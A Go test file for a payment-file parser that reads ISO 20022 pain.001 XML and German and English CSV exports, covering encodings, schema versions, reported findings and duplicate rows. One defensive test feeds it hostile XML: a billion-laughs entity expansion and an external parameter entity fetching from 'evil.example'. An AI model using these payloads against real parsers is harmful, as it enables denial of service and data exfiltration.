package paymentfile

import (
	"strings"
	"testing"

	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/unicode"

	"florin/internal/money"
	"florin/internal/openbanking"
	"florin/internal/textfile"
)

// encoded writes a text in another alphabet.
func encoded(t *testing.T, alphabet encoding.Encoding, text string) string {
	t.Helper()
	file, err := alphabet.NewEncoder().String(text)
	if err != nil {
		t.Fatal(err)
	}
	return file
}

// A file is read in the alphabet that it is written in, or it is said what to do.
func TestDecode(t *testing.T) {
	body := pain("", "<PmtInf>"+transferXML("Müller & Söhne", german, "5")+"</PmtInf>")
	body = strings.Replace(body, " & ", " &amp; ", 1)
	declaring := func(label string) string { return strings.Replace(body, "UTF-8", label, 1) }
	csv := "Name;IBAN;Betrag\nMüller & Söhne;" + german + ";5\n"
	utf16 := func(e unicode.Endianness, b unicode.BOMPolicy) encoding.Encoding { return unicode.UTF16(e, b) }
	for _, c := range []struct {
		name, file string
		guessed    bool
	}{
		{"UTF-8", body, false},
		{"UTF-8 with a mark", "\ufeff" + body, false},
		{"UTF-8 with a mark that declares another", "\ufeff" + declaring("ISO-8859-1"), false},
		{"ISO 8859-1", encoded(t, charmap.ISO8859_1, declaring("ISO-8859-1")), false},
		{"ISO 8859-1 in small letters and single quotes",
			encoded(t, charmap.ISO8859_1, strings.Replace(declaring("iso-8859-1"), `"iso-8859-1"`, "'iso-8859-1'", 1)), false},
		{"ISO 8859-15", encoded(t, charmap.ISO8859_15, declaring("ISO-8859-15")), false},
		{"ISO 8859-2", encoded(t, charmap.ISO8859_2, declaring("ISO-8859-2")), false},
		{"windows-1252", encoded(t, charmap.Windows1252, declaring("windows-1252")), false},
		{"windows-1250", encoded(t, charmap.Windows1250, declaring("Windows-1250")), false},
		{"UTF-16, little end first", encoded(t, utf16(unicode.LittleEndian, unicode.UseBOM), declaring("UTF-16")), false},
		{"UTF-16, big end first", encoded(t, utf16(unicode.BigEndian, unicode.UseBOM), declaring("UTF-16")), false},
		{"UTF-16 without its mark", encoded(t, utf16(unicode.LittleEndian, unicode.IgnoreBOM), declaring("UTF-16")), false},
		{"UTF-16, big end first, without its mark", encoded(t, utf16(unicode.BigEndian, unicode.IgnoreBOM), declaring("UTF-16")), false},
		{"declares UTF-16 and is UTF-8", declaring("utf-16"), false},
		{"no declaration", strings.TrimPrefix(body, `<?xml version="1.0" encoding="UTF-8"?>`), false},
		{"CSV in UTF-8", csv, false},
		{"CSV in UTF-8 with a mark", "\ufeff" + csv, false},
		{"CSV in windows-1252", encoded(t, charmap.Windows1252, csv), true},
		{"CSV in UTF-16, as spreadsheets call Unicode", encoded(t, utf16(unicode.LittleEndian, unicode.UseBOM), strings.ReplaceAll(csv, ";", "\t")), false},
	} {
		text, guessed, err := textfile.Decode([]byte(c.file), MaxBytes)
		if err != nil || guessed != c.guessed {
			t.Errorf("%s: guessed %v, %v", c.name, guessed, err)
			continue
		}
		b, err := Parse(text, "EUR")
		if err != nil || !b.Good() || len(b.Rows) != 1 || *b.Rows[0].Transfer.Beneficiary.Creditor.Name != "Müller & Söhne" {
			t.Errorf("%s: %+v, %v", c.name, b, err)
		}
		if again, err := Parse(text, "EUR"); err != nil || again.Rows[0].Amount != b.Rows[0].Amount {
			t.Errorf("%s: the text of the page is read otherwise: %v", c.name, err)
		}
	}
	euro, _, err := textfile.Decode([]byte(encoded(t, charmap.Windows1252, declaring("ISO-8859-1")+"€")), MaxBytes)
	if err != nil || !strings.HasSuffix(euro, "€") {
		t.Errorf("what calls itself ISO 8859-1 and is windows-1252: %v", err)
	}
	for _, c := range []struct{ name, file, finding string }{
		{"an alphabet that is not read", declaring("Shift_JIS"), `UnknownEncoding{Name:"shift_jis"}`},
		{"declares UTF-8 and is none", strings.Replace(body, "Müller", "M\n\xfcller", 1), "NotUTF8{Line:2}"},
		{"a marked file that is none", "\ufeffname\n\xff", "NotUTF8{Line:2}"},
		{"UTF-32", "\xff\xfe\x00\x00<\x00\x00\x00", "OtherFile{Kind:6}"},
		{"UTF-16 that ends in the middle", encoded(t, utf16(unicode.LittleEndian, unicode.UseBOM), "name") + "\x00", `WrongEncoding{Name:"UTF-16", Line:1}`},
		{"a workbook", "PK\x03\x04....", "OtherFile{Kind:0}"},
		{"an old workbook", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "OtherFile{Kind:1}"},
		{"a PDF", "%PDF-1.7", "OtherFile{Kind:2}"},
		{"compressed", "\x1f\x8b\x08", "OtherFile{Kind:3}"},
		{"a picture", "\x89PNG\r\n", "OtherFile{Kind:4}"},
		{"a program", "MZ\x90\x00\x03", "OtherFile{Kind:5}"},
		{"nothing of windows-1252", "name;iban\n\x81", `WrongEncoding{Name:"windows-1252", Line:2}`},
		{"too large", strings.Repeat("x", MaxBytes+1), "TooLarge{Most:1048576}"},
	} {
		if _, _, err := textfile.Decode([]byte(c.file), MaxBytes); err == nil || !says(err, c.finding) {
			t.Errorf("%s: %v", c.name, err)
		}
	}
}

// Every version of pain.001 that is in use is read, with the names that banks of a country give it.
func TestPain001Versions(t *testing.T) {
	file := pain("", `<PmtInf><ReqdExctnDt>2026-12-24</ReqdExctnDt>`+transferXML("A", german, "5")+`</PmtInf>`)
	const space = "urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"
	old := strings.Replace(file, "BICFI", "BIC", 2)
	later := func(date string) string { return strings.Replace(file, ">2026-12-24<", ">"+date+"<", 1) }
	for _, c := range []struct{ file, space string }{
		{old, "urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"}, {old, "urn:iso:std:iso:20022:tech:xsd:pain.001.002.03"},
		{old, "urn:iso:std:iso:20022:tech:xsd:pain.001.003.03"},
		{old, "http://www.six-interbank-clearing.com/de/pain.001.001.03.ch.02.xsd"}, {later("<Dt>2026-12-24</Dt>"), "urn:iso:std:iso:20022:tech:xsd:pain.001.001.08"},
		{later("<Dt>2026-12-24</Dt>"), space}, {later("<DtTm>2026-12-24T09:00:00+01:00</DtTm>"), space},
		{later("<Dt>2026-12-24</Dt>"), "urn:iso:std:iso:20022:tech:xsd:pain.001.001.11"},
		{later("<Dt>2026-12-24</Dt>"), "urn:iso:std:iso:20022:tech:xsd:pain.001.001.12"},
	} {
		b, err := readFile(strings.Replace(c.file, space, c.space, 1))
		if err != nil || !b.Good() || *b.Rows[0].Transfer.RequestedExecutionDate != "2026-12-24" ||
			*b.Rows[0].Transfer.Beneficiary.CreditorAgent.BICFI != "BHBLDEHHXXX" || len(b.Notes) != 0 {
			t.Errorf("%s: %+v, %v", c.space, b, err)
		}
	}
	if b, err := readFile(strings.Replace(file, ` xmlns="`+space+`"`, "", 1)); err != nil || !b.Good() {
		t.Errorf("without a namespace: %v", err)
	}
	prefixed := strings.NewReplacer("<Document xmlns=", "<p:Document xmlns:p=", "</Document>", "</p:Document>").Replace(file)
	prefixed = strings.NewReplacer("<CstmrCdtTrfInitn", "<p:CstmrCdtTrfInitn", "</CstmrCdtTrfInitn", "</p:CstmrCdtTrfInitn").Replace(prefixed)
	if b, err := readFile(prefixed); err != nil || !b.Good() {
		t.Errorf("with a prefix: %v", err)
	}
	for _, c := range []struct{ space, finding string }{
		{"urn:iso:std:iso:20022:tech:xsd:pain.008.001.02", "OtherMessage{Kind:1}"}, {"urn:iso:std:iso:20022:tech:xsd:pain.002.001.03", "OtherMessage{Kind:2}"},
		{"urn:iso:std:iso:20022:tech:xsd:camt.053.001.08", "OtherMessage{Kind:3}"}, {"urn:iso:std:iso:20022:tech:xsd:pain.001.001.02", "OtherMessage{Kind:4}"},
		{"urn:example", "OtherMessage{Kind:0}"},
	} {
		if _, err := readFile(strings.Replace(file, space, c.space, 1)); err == nil || !says(err, c.finding) {
			t.Errorf("%s: %v", c.space, err)
		}
	}
}

// What a pain.001 asks for beside its transfers is taken over, refused, or said to be left out; nothing is dropped in silence.
func TestPain001SaysWhatBecomesOfIt(t *testing.T) {
	group := func(head, transfers string) string { return "<PmtInf>" + head + transfers + "</PmtInf>" }
	one := transferXML("A", german, "5")
	in := func(transfer, element string) string {
		return strings.Replace(transfer, "</CdtTrfTxInf>", element+"</CdtTrfTxInf>", 1)
	}
	for _, c := range []struct {
		name, body      string
		problems, notes string
	}{
		{"nothing", group("", one), "", ""},
		{"two groups", group("", one) + group("", one), "", "SeveralGroups{Count:2}"},
		{"batch booking", group("<BtchBookg>false</BtchBookg>", one), "", "BatchBooking"},
		{"a cheque", group("<PmtMtd>CHK</PmtMtd>", one), `NoTransfer{Method:"CHK"}`, ""},
		{"a transfer", group("<PmtMtd>TRF</PmtMtd>", one), "", ""},
		{"two payers", group("<DbtrAcct><Id><IBAN>"+finn+"</IBAN></Id></DbtrAcct>", one) + group("<DbtrAcct><Id><IBAN>"+german+"</IBAN></Id></DbtrAcct>", one),
			"SeveralDebtors", "SeveralGroups{Count:2}"},
		{"instant", group("<PmtTpInf><LclInstrm><Cd>INST</Cd></LclInstrm></PmtTpInf>", one), "Instant", ""},
		{"charges differ", group("<ChrgBr>SLEV</ChrgBr>", one) + group("<ChrgBr>DEBT</ChrgBr>", one), "SeveralCharges", "SeveralGroups{Count:2}"},
		{"charges of some", group("<ChrgBr>SLEV</ChrgBr>", one) + group("", one), "SeveralCharges", "SeveralGroups{Count:2}"},
		{"charges that are none", group("<ChrgBr>X</ChrgBr>", one), `UnknownCharges{Code:"X"}`, ""},
		{"priority that is none", group("<PmtTpInf><InstrPrty>LOW</InstrPrty></PmtTpInf>", one), `UnknownPriority{Code:"LOW"}`, ""},
		{"priorities differ", group("<PmtTpInf><InstrPrty>HIGH</InstrPrty></PmtTpInf>", one) + group("", one), "SeveralPriority", "SeveralGroups{Count:2}"},
		{"count of a group", group("<PmtInfId>G1</PmtInfId><NbOfTxs>3</NbOfTxs>", one), `WrongCount{Group:Group{Number:1, ID:"G1"}, Stated:"3", Count:1}`, ""},
		{"sum of a group", group("<CtrlSum>5.01</CtrlSum>", one), `WrongSum{Group:Group{Number:1, ID:""}, Stated:"5.01", Sum:`, ""},
		{"count of the file", "<GrpHdr><NbOfTxs>x</NbOfTxs></GrpHdr>" + group("", one), `WrongCount{Group:Group{Number:0, ID:""}, Stated:"x", Count:1}`, ""},
		{"sum of the file", "<GrpHdr><CtrlSum>5,00</CtrlSum></GrpHdr>" + group("", one), `WrongSum{Group:Group{Number:0, ID:""}, Stated:"5,00", Sum:`, ""},
		{"a sum in two currencies", "<GrpHdr><CtrlSum>10</CtrlSum></GrpHdr>" + group("", one+strings.Replace(one, "EUR", "SEK", 1)), "", ""},
		{"what is not sent", group("", in(one, "<UltmtCdtr><Nm>C</Nm></UltmtCdtr><Purp><Cd>SALA</Cd></Purp><Odd><Nm>x</Nm></Odd>")), "",
			`LeftOut{Elements:[]string{"Odd", "Purp", "UltmtCdtr"}, More:false}`},
		{"a long list", group("", in(one, "<A/><B/><C/><D/><E/><F/><G/><H/><I/><J/>")), "",
			`LeftOut{Elements:[]string{"A", "B", "C", "D", "E", "F", "G", "H"}, More:true}`},
		{"texts of its parties", group("<Dbtr><Nm>M</Nm><PstlAdr><Ctry>DE</Ctry></PstlAdr></Dbtr>", one), "", ""},
	} {
		b, err := readFile(pain("", c.body))
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		for _, side := range []struct {
			what, want string
			got        []Finding
		}{{"problem", c.problems, b.Problems}, {"note", c.notes, b.Notes}} {
			var got string
			for _, f := range side.got {
				got += told(f)
			}
			if !strings.Contains(got, side.want) || side.want == "" && got != "" || side.want != "" && len(side.got) != 1 {
				t.Errorf("%s: %s %q, want %q", c.name, side.what, got, side.want)
			}
		}
	}
	b, err := readFile(pain("", group("<ChrgBr>SLEV</ChrgBr><PmtTpInf><InstrPrty>HIGH</InstrPrty></PmtTpInf>", strings.NewReplacer(
		"<Ustrd>Invoice &lt;7&gt;</Ustrd>", "<Strd><CdtrRefInf><Ref>RF18539007547034</Ref></CdtrRefInf><AddtlRmtInf>More</AddtlRmtInf></Strd>",
		"<Nm>A</Nm>", "<Nm>A</Nm><PstlAdr><Ctry>DE</Ctry><AdrLine>Road 1</AdrLine><AdrLine>12345 Town</AdrLine></PstlAdr>",
		"<IBAN>"+german+"</IBAN>", "<Othr><Id>5805-6201</Id><SchmeNm><Prtry>BGNR</Prtry></SchmeNm></Othr>").Replace(one))))
	if err != nil || !b.Good() {
		t.Fatalf("%+v, %v", b, err)
	}
	first := b.Rows[0].Transfer
	if b.Charges != "SLEV" || b.Priority != "HIGH" || *first.ReferenceNumber != "RF18539007547034" || first.RemittanceInformation[0] != "More" ||
		first.Beneficiary.CreditorAccount.SchemeName != openbanking.SchemeNameBGNR ||
		first.Beneficiary.CreditorAccount.Identification != "5805-6201" || *first.Beneficiary.Creditor.PostalAddress.Country != "DE" ||
		len(first.Beneficiary.Creditor.PostalAddress.AddressLine) != 2 {
		t.Errorf("%+v", b)
	}
	two, err := readFile(pain("", group("", strings.Replace(one, "<Ustrd>Invoice &lt;7&gt;</Ustrd>",
		strings.Repeat("<Strd><CdtrRefInf><Ref>RF18539007547034</Ref></CdtrRefInf></Strd>", 2), 1))))
	if err != nil || rows(two) != "1 A "+german+" 5.00 !SeveralReferences{Count:2}" {
		t.Errorf("%v %s", err, rows(two))
	}
}

// XML that means harm, or is broken, is refused before any of it is believed.
func TestPain001RefusesHarm(t *testing.T) {
	one := "<PmtInf>" + transferXML("A", german, "5") + "</PmtInf>"
	laughs := `<!DOCTYPE lolz [<!ENTITY a "ha">` + strings.Repeat(`<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">`, 9) + `]>`
	for name, c := range map[string]struct{ file, finding string }{
		"a billion laughs":         {pain(laughs, one), "DocumentType"},
		"a parameter entity":       {pain(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>`, one), "DocumentType"},
		"a document type within":   {pain("", `<!DOCTYPE x>`+one), "DocumentType"},
		"an element within":        {pain("", `<!ELEMENT x ANY>`+one), "DocumentType"},
		"nested":                   {pain("", strings.Repeat("<a>", 200000)), "TooDeep"},
		"cut off":                  {strings.TrimSuffix(pain("", one), "</Document>"), "Malformed{Line:1}"},
		"an end without a start":   {pain("", one) + "</Document>", "Malformed{"},
		"crossed":                  {pain("", "<a><b></a></b>"), "Malformed{"},
		"not closed":               {"<Document", "Malformed{"},
		"an attribute without end": {`<Document x="` + strings.Repeat("y", 1000), "Malformed{"},
		"control characters":       {pain("", strings.Replace(one, "<Nm>A", "<Nm>\x01", 1)), "Malformed{"},
		"two documents":            {pain("", one) + strings.TrimPrefix(pain("", one), `<?xml version="1.0" encoding="UTF-8"?>`), ""},
		"nothing":                  {"<", "Malformed{"},
		"a comment":                {"<!-- -->", "OtherMessage{Kind:0}"},
	} {
		b, err := readFile(c.file)
		if c.finding == "" {
			if err != nil || len(b.Rows) != 1 {
				t.Errorf("%s: %d rows, %v", name, len(b.Rows), err)
			}
			continue
		}
		if err == nil || !says(err, c.finding) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// CSV is read as spreadsheets and bookkeeping programs write it, in English and German.
func TestCSVForms(t *testing.T) {
	for _, c := range []struct{ name, file string }{
		{"commas", "name,iban,amount\nA,@,\"12,50\"\n"},
		{"commas and a dot", "name,iban,amount\nA,@,12.50\n"},
		{"semicolons", "name;iban;amount\nA;@;12,50\n"},
		{"tabs, as pasted from a spreadsheet", "name\tiban\tamount\nA\t@\t12,50\n"},
		{"a tab before an empty field", "bic\tname\tiban\tamount\n\tA\t@\t12,50\n"},
		{"old ends of lines", "name;iban;amount\r\nA;@;12,50\r\n"},
		{"no end of the last line", "name;iban;amount\nA;@;12,50"},
		{"German", "Empfänger;IBAN Empfänger;Betrag;Währung;Verwendungszweck;Ausführungsdatum\nA;@;12,50;EUR;;\n"},
		{"German without its letters", "Empfaenger;Kontonummer;Betrag;Waehrung\nA;@;12,50;EUR\n"},
		{"decomposed letters", "Empfa\u0308nger;IBAN;Betrag\nA;@;12,50\n"},
		{"other words", "Payee name;Account number;Amount;Payment reference\nA;@;12,50;\n"},
		{"signs in the names", " *Creditor_Name* ;Creditor-IBAN:;AMOUNT\nA;@;12,50\n"},
		{"quoted names", "\"Name\";\"IBAN\";\"Amount\"\n\"A\";\"@\";\"12,50\"\n"},
		{"empty lines", "\n\n;;\nname;iban;amount\n\n;;\nA;@;12,50\n;;\n\n"},
		{"quotation marks inside", "name;iban;amount;text\nA;@;12,50;B \"the\" C\n"},
		{"the separator told", "sep=;\nname;iban;amount\nA;@;12,50\n"},
		{"the separator told, against the look", "sep=;\r\nname, of whom;name;iban;amount\r\n;A;@;12,50\r\n"},
		{"money with its sign", "name;iban;amount\nA;@;12,50 €\n"},
		{"money with its code", "name;iban;amount\nA;@;EUR 12.50\n"},
		{"spaces that do not break", "name;iban;amount\n\u00a0A\u00a0;@;\u00a012,50\n"},
	} {
		b, err := readFile(strings.Replace(c.file, "@", german, 1))
		if err != nil || len(b.Rows) != 1 || !b.Good() || b.Rows[0].Amount != money.FromMinor(1250, "EUR") || *b.Rows[0].Transfer.Beneficiary.Creditor.Name != "A" {
			t.Errorf("%s: %+v, %v", c.name, b, err)
		}
	}
	for _, c := range []struct{ name, file, finding string }{
		{"no header", "ACME;" + german + ";12,50\n", "NoHeader"},
		{"another header", "a;b;c\n", `NoColumn{Column:"name"}`},
		{"columns without end", strings.Repeat("x,", 1000) + "\n", "TooManyColumns{Count:1001, Most:200}"},
		{"the header alone", "\n\nname;iban;amount\n\n", "NoPayment{Header:true}"},
		{"a column twice", "name;Empfänger;iban;amount\n", `SameColumn{Column:"name", First:"name", Second:"Empfänger"}`},
		{"a quotation mark, and one that never ends", "\nname;iban;amount\nB \"the\" C;DE;1\n\"A;DE;1\nB;DE;1\n", "WrongQuotes{Line:4}"},
		{"a quotation that never ends", "name;iban;amount\n\"A;DE;1\nB;DE;1\n", "WrongQuotes{Line:2}"},
	} {
		if _, err := readFile(c.file); err == nil || !says(err, c.finding) {
			t.Errorf("%s: %v", c.name, err)
		}
	}
	b, err := readFile("sep=,\n\nname,iban,amount,colour,text,text 2\nACME," + german + ",12,50,red,x,y\nB," + german + ",1,red\n\"C\nD\"," + german +
		",1,,\"one\",two\nE\ufffd," + german + ",,,,\n")
	if err != nil {
		t.Fatal(err)
	}
	if got := rows(b); got != "4 ACME "+german+" 12.00 !LongLine{Columns:7, Header:6, Separator:44}\n5 B "+german+" 1.00 !ShortLine{Columns:4, Header:6}\n6 C D "+german+" 1.00\n8 E\ufffd "+german+" 0.00 !DamagedName !NoAmount" {
		t.Error(got)
	}
	if b.Notes[0] != (UnknownColumn{Name: "colour"}) || strings.Join(b.Rows[2].Transfer.RemittanceInformation, "|") != "one|two" {
		t.Errorf("%q %q", b.Notes, b.Rows[2].Transfer.RemittanceInformation)
	}
}

// Rows that pay the same amount to the same account are found, however they are written.
func TestEqualRows(t *testing.T) {
	b, err := readFile("name;iban;amount;text;currency\nACME;" + german + ";12,50;Invoice 1;EUR\nB;" + finn +
		";5;;\nacme;de89 3704 0044 0532 0130 00;12.50;invoice  1;\nACME;" + german + ";12,50;;SEK\nB;" + finn + ";5,00;Other;\n;" + german +
		";12,50;Invoice 1;\nACME;" +
		german + ";12,50;Invoice 1;\nACME;" + german + ";12,51;Invoice 1;\n")
	if err != nil {
		t.Fatal(err)
	}
	all := b.Equal()
	if len(all) != 2 || len(all[0].Rows) != 3 || all[0].Rows[1] != 2 || all[0].Rows[2] != 6 || !all[0].Whole || all[0].Payee != "ACME" ||
		all[0].Amount.String() != "12.50" ||
		len(all[1].Rows) != 2 || all[1].Whole || all[1].To.Number != finn {
		t.Errorf("%+v", all)
	}
	fewer := all[0]
	fewer.Rows = fewer.Rows[:2]
	if all[0].Key() == fewer.Key() || all[0].Key() == all[1].Key() {
		t.Error("agreeing to some equal rows is agreeing to others")
	}
}
